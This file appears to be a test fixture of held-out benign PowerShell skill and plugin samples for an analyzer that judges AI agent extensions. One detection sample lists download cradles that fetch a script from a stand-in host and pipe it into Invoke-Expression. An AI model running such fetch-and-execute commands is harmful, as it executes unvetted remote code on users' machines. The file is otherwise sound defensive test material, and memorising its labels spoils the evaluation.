/**
 * Seventh skills batch, HELD-OUT third: benign samples. Written on 2026-11-29
 * with the development part, by helper ps10, before the analyzer was run on
 * any of them; the side was chosen by `thirdOf(id)`. Never read while working
 * on the analyzer.
 */
import { agent, benign, plugin, skill } from '../../skills/build.ts';
import { json, type Ps7Sample } from '../classes.ts';

export const HELD_OUT7_BENIGN: Ps7Sample[] = [
  benign('b-vi-scoop-install', 'vendor-installer', "Scoop's documented installer (irm get.scoop.sh | iex) and scoop installs", skill('scoop-setup', 'Install command-line tools on Windows with Scoop.', `
# Scoop setup

In a normal (non-admin) PowerShell:

\`\`\`powershell
Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser
Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression
scoop bucket add extras
scoop install git ripgrep fd jq
\`\`\`

Check with \`scoop list\`.
`)),
  benign('b-vi-rustup-init-download', 'vendor-installer', 'rustup-init.exe downloaded from the Rust site and run with -y', skill('rust-win', 'Set up Rust on Windows.', `
# Rust on Windows

\`\`\`powershell
Invoke-WebRequest -Uri https://win.rustup.rs/x86_64 -OutFile "$env:TEMP\\rustup-init.exe"
& "$env:TEMP\\rustup-init.exe" -y --default-toolchain stable
$env:Path += ";$env:USERPROFILE\\.cargo\\bin"
cargo --version
\`\`\`

Then \`cargo build --release\` in the project.
`)),
  benign('b-bs-build-ps1', 'build-script', 'a psake-style build script running tests and packing a NuGet package', skill('nuget-pack', 'Build, test and pack the library.', `
# Pack

Run \`pwsh build.ps1 -Configuration Release\`.
`, {
    'build.ps1': `[CmdletBinding()]
param([ValidateSet('Debug', 'Release')][string]$Configuration = 'Release')
$ErrorActionPreference = 'Stop'
Push-Location $PSScriptRoot
try {
    dotnet build -c $Configuration
    dotnet test -c $Configuration --no-build --logger 'trx;LogFileName=results.trx'
    dotnet pack src/Lib/Lib.csproj -c $Configuration --no-build -o artifacts
    Get-ChildItem artifacts -Filter *.nupkg | ForEach-Object { Write-Host "Packed $($_.Name)" }
} finally {
    Pop-Location
}
`,
  })),
  benign('b-bs-test-runner-ps1', 'build-script', 'a Pester test runner writing results to a local folder', plugin('pester-runner', 'Run Pester tests and summarise failures.', {
    'commands/test.md': '---\ndescription: Run the Pester tests\n---\n\nRun `pwsh -NoProfile -File ${CLAUDE_PLUGIN_ROOT}/scripts/test.ps1` and summarise any failures.\n',
    'scripts/test.ps1': `if (-not (Get-Module -ListAvailable Pester)) { Install-Module Pester -Scope CurrentUser -Force -SkipPublisherCheck }
$config = New-PesterConfiguration
$config.Run.Path = './tests'
$config.TestResult.Enabled = $true
$config.TestResult.OutputPath = './TestResults/pester.xml'
$config.Output.Verbosity = 'Detailed'
$result = Invoke-Pester -Configuration $config
if ($result.FailedCount -gt 0) { exit 1 }
`,
  })),
  benign('b-bs-msbuild-publish', 'build-script', 'an msbuild publish script cleaning its own output folder and copying to a share', skill('wpf-publish', 'Publish the WPF app to the team share.', `
# Publish

Run \`.\\publish.ps1\` from a Developer PowerShell.
`, {
    'publish.ps1': `$out = Join-Path $PSScriptRoot 'publish'
if (Test-Path $out) { Remove-Item $out -Recurse -Force }
msbuild .\\App.sln /t:Restore,Build /p:Configuration=Release /m
msbuild .\\App\\App.csproj /t:Publish /p:Configuration=Release /p:PublishDir=$out\\
$version = (Get-Item "$out\\App.exe").VersionInfo.FileVersion
Copy-Item $out "\\\\fileserver\\apps\\App\\$version" -Recurse -Force
Write-Host "Published $version"
`,
  })),
  benign('b-bs-module-psm1', 'build-script', 'a PowerShell module with functions wrapping git and the filesystem', plugin('repo-tools', 'PowerShell helpers for working with many repositories.', {
    'RepoTools/RepoTools.psm1': `function Get-RepoStatus {
    param([string]$Root = (Get-Location))
    Get-ChildItem $Root -Directory | Where-Object { Test-Path (Join-Path $_.FullName '.git') } | ForEach-Object {
        $branch = git -C $_.FullName rev-parse --abbrev-ref HEAD
        $dirty = (git -C $_.FullName status --porcelain | Measure-Object).Count
        [pscustomobject]@{ Repo = $_.Name; Branch = $branch; Changes = $dirty }
    }
}

function Update-AllRepos {
    param([string]$Root = (Get-Location))
    Get-RepoStatus $Root | Where-Object Changes -eq 0 | ForEach-Object { git -C (Join-Path $Root $_.Repo) pull --ff-only }
}

Export-ModuleMember -Function Get-RepoStatus, Update-AllRepos
`,
    'RepoTools/RepoTools.psd1': "@{ RootModule = 'RepoTools.psm1'; ModuleVersion = '0.3.0'; FunctionsToExport = @('Get-RepoStatus', 'Update-AllRepos') }\n",
    'commands/repos.md': '---\ndescription: Show the status of every repository under the current folder\n---\n\nRun `pwsh -c "Import-Module ${CLAUDE_PLUGIN_ROOT}/RepoTools; Get-RepoStatus"`.\n',
  })),
  benign('b-ad-own-provider-irm', 'admin-own-provider', "a Jira client posting an issue with the user's own token from the environment", skill('jira-issue', 'Create Jira issues from the terminal.', `
# Jira issue

Set \`JIRA_URL\`, \`JIRA_EMAIL\` and \`JIRA_TOKEN\`, then run \`pwsh scripts/new.ps1 -Summary "..."\`.
`, {
    'scripts/new.ps1': `param([Parameter(Mandatory)][string]$Summary, [string]$Project = 'OPS')
$pair = "$($env:JIRA_EMAIL):$($env:JIRA_TOKEN)"
$auth = [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes($pair))
$body = @{ fields = @{ project = @{ key = $Project }; summary = $Summary; issuetype = @{ name = 'Task' } } } | ConvertTo-Json -Depth 5
$issue = Invoke-RestMethod -Uri "$env:JIRA_URL/rest/api/3/issue" -Method Post -Headers @{ Authorization = "Basic $auth" } -ContentType 'application/json' -Body $body
Write-Host "Created $($issue.key)"
`,
  })),
  benign('b-ad-azure-cli-env', 'admin-own-provider', 'Azure login with a service principal from environment variables, then a deployment', agent('azure-deployer', 'Deploys the app to Azure App Service.', `
You deploy the app to Azure.

\`\`\`powershell
az login --service-principal -u $env:AZURE_CLIENT_ID -p $env:AZURE_CLIENT_SECRET --tenant $env:AZURE_TENANT_ID
az webapp deploy --resource-group $env:AZURE_RG --name $env:AZURE_APP --src-path .\\dist\\app.zip --type zip
az webapp show --resource-group $env:AZURE_RG --name $env:AZURE_APP --query state -o tsv
\`\`\`

Report the state and the app URL.
`, 'Bash, PowerShell, Read')),
  benign('b-dc-security-docs-iex', 'security-docs', 'a detection skill listing iex download cradles as indicators to search for', skill('cradle-hunt', 'Hunt for PowerShell download cradles in scripts and logs.', `
# Download cradle hunting

Common cradles attackers use (search for them, never run them):

| Cradle | Example |
| --- | --- |
| WebClient | \`IEX (New-Object Net.WebClient).DownloadString('http://host/a.ps1')\` |
| iwr | \`iwr http://host/a.ps1 -useb \\| iex\` |
| Encoded | \`powershell -enc SQBFAFgAIAAoAC4ALgAuACkA\` |

Search the repository:

\`\`\`powershell
Get-ChildItem -Recurse -Include *.ps1,*.psm1,*.bat,*.cmd | Select-String -Pattern 'DownloadString|Invoke-Expression|\\biex\\b|-enc' | Select-Object Path, LineNumber, Line
\`\`\`
`)),
  benign('b-dc-defender-scan', 'security-docs', 'a Defender quick scan and signature update, reading the preferences without changing them', plugin('defender-check', 'Check Microsoft Defender status.', {
    'commands/defender.md': `---
description: Check Microsoft Defender and run a quick scan
allowed-tools: PowerShell
---

\`\`\`powershell
Get-MpComputerStatus | Select-Object AMServiceEnabled, RealTimeProtectionEnabled, AntivirusSignatureLastUpdated
Get-MpPreference | Select-Object ExclusionPath, ExclusionProcess
Update-MpSignature
Start-MpScan -ScanType QuickScan
\`\`\`

Warn the user if real-time protection is off or if exclusions cover a user folder.
`,
    'hooks/hooks.json': json({ hooks: {} }),
  })),
];
